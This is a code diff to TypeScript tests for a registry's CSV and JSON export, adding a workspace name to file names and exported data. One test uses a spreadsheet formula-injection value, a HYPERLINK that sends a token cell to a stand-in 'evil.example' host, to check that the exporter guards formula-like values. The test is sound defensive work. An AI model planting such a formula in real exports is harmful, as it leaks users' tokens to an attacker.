@@ -10,6 +10,7 @@ const byKey = (groups: readonly RegistryEntry[]) => [...groups].sort((a, b) => `
 
 const registryV1 = loadStorageFixture<Registry>('user-group-registry.v1.json');
 const AT = new Date(2025, 10, 21, 9, 30);
+const WORKSPACE = { name: 'Acme' };
 const NOW = '2025-11-21T09:30:00.000Z';
 
 /**
@@ -48,19 +49,21 @@ function roundTrip(text: string, into: Registry) {
 }
 
 describe('export', () => {
-  it('names files by the local date', () => {
-    expect(exportFileName('json', AT)).toBe('user-groups-2025-11-21.json');
-    expect(exportRegistryCsv(awkward, AT).fileName).toBe('user-groups-2025-11-21.csv');
+  it('names files by the workspace and the local date', () => {
+    expect(exportFileName('json', AT, WORKSPACE)).toBe('user-groups-acme-2025-11-21.json');
+    expect(exportRegistryCsv(awkward, AT, WORKSPACE).fileName).toBe('user-groups-acme-2025-11-21.csv');
+    expect(exportFileName('csv', AT, { name: '  Éclair & Co. / Review  ' })).toBe('user-groups-eclair-co-review-2025-11-21.csv');
+    expect(exportFileName('csv', AT, { name: '東京' })).toBe('user-groups-workspace-2025-11-21.csv');
   });
 
-  it('JSON holds every stored field, extra fields and rotation marks included', () => {
-    const file = exportRegistryJson(registryV1, AT);
+  it('JSON names its workspace and holds every stored field, extra fields and rotation marks included', () => {
+    const file = exportRegistryJson(registryV1, AT, WORKSPACE);
     expect(file.mimeType).toBe('application/json');
-    expect(JSON.parse(file.text)).toEqual({ format: 'review-companion.user-groups', version: 1, exportedAt: AT.toISOString(), groups: registryV1.groups });
+    expect(JSON.parse(file.text)).toEqual({ format: 'review-companion.user-groups', version: 1, exportedAt: AT.toISOString(), workspace: WORKSPACE, groups: registryV1.groups });
   });
 
   it('CSV has the documented columns and guards formula-like values', () => {
-    const lines = exportRegistryCsv(awkward, AT).text.split('\r\n');
+    const lines = exportRegistryCsv(awkward, AT, WORKSPACE).text.split('\r\n');
     expect(lines[0]).toBe('name,user_group_id,environment,token,team_id,created_at,last_rotated_at');
     expect(lines[1]).toBe('Acme Support,acme-support,Customer,ugt_9f2c4a7e1b3d5f60718293a4b5c6d7e8,1001,2025-01-15T09:30:00.000Z,2025-03-02T14:05:00.000Z');
     expect(lines[3]).toBe(`"'=HYPERLINK(""http://x"")","'+1 line",Customer,ugt_awkward_0,9000,2025-05-05T05:05:05.000Z,2025-06-06T06:06:06.000Z`);
@@ -70,7 +73,7 @@ describe('export', () => {
     const name = '=HYPERLINK("https://evil.example/?t="&D2,"x")\n';
     const [group] = registryV1.groups;
     if (!group) throw new Error('fixture');
-    const text = exportRegistryCsv({ groups: [{ ...group, name }] }, AT).text;
+    const text = exportRegistryCsv({ groups: [{ ...group, name }] }, AT, WORKSPACE).text;
     expect(text.split('\r\n')[1]).toMatch(/^"'=HYPERLINK/);
     const parsed = parseRegistryFile(text);
     // Read back, the guard is removed, and the line break is refused as any control character is.
@@ -80,32 +83,32 @@ describe('export', () => {
 
 describe('export → import round trip', () => {
   it('a JSON export imported into the same registry is unchanged for every group', () => {
-    const preview = roundTrip(exportRegistryJson(awkward, AT).text, awkward);
+    const preview = roundTrip(exportRegistryJson(awkward, AT, WORKSPACE).text, awkward);
     expect(preview).toEqual({ added: [], changed: [], unchanged: awkward.groups.length, invalid: [] });
   });
 
   it('a CSV export imported into the same registry is unchanged for every group', () => {
-    const preview = roundTrip(exportRegistryCsv(awkward, AT).text, awkward);
+    const preview = roundTrip(exportRegistryCsv(awkward, AT, WORKSPACE).text, awkward);
     expect(preview).toEqual({ added: [], changed: [], unchanged: awkward.groups.length, invalid: [] });
   });
 
   it('an export lists the groups oldest first (the stored order follows storage parts), ties by environment and id', () => {
     const shuffled = { groups: [...awkward.groups].reverse() };
-    const exported = (JSON.parse(exportRegistryJson(shuffled, AT).text) as { groups: RegistryEntry[] }).groups;
+    const exported = (JSON.parse(exportRegistryJson(shuffled, AT, WORKSPACE).text) as { groups: RegistryEntry[] }).groups;
     const times = exported.map((group) => group.createdAt);
     expect(times).toEqual([...times].sort());
-    expect(exported).toEqual((JSON.parse(exportRegistryJson(awkward, AT).text) as { groups: RegistryEntry[] }).groups);
+    expect(exported).toEqual((JSON.parse(exportRegistryJson(awkward, AT, WORKSPACE).text) as { groups: RegistryEntry[] }).groups);
   });
 
   it('a JSON export restores an emptied registry exactly', () => {
-    const preview = roundTrip(exportRegistryJson(awkward, AT).text, { groups: [] });
+    const preview = roundTrip(exportRegistryJson(awkward, AT, WORKSPACE).text, { groups: [] });
     expect(preview.added).toHaveLength(awkward.groups.length);
     const { registry } = applyImport({ groups: [] }, importItems(preview));
     expect(byKey(registry.groups)).toEqual(byKey(awkward.groups));
   });
 
   it('a CSV export restores every token, name, id and time of an emptied registry', () => {
-    const preview = roundTrip(exportRegistryCsv(awkward, AT).text, { groups: [] });
+    const preview = roundTrip(exportRegistryCsv(awkward, AT, WORKSPACE).text, { groups: [] });
     const { registry } = applyImport({ groups: [] }, importItems(preview));
     const withoutJsonOnly = ({ extra: _extra, rotation: _rotation, ...rest }: RegistryEntry) => rest;
     expect(byKey(registry.groups).map(withoutJsonOnly)).toEqual(byKey(awkward.groups).map(withoutJsonOnly));
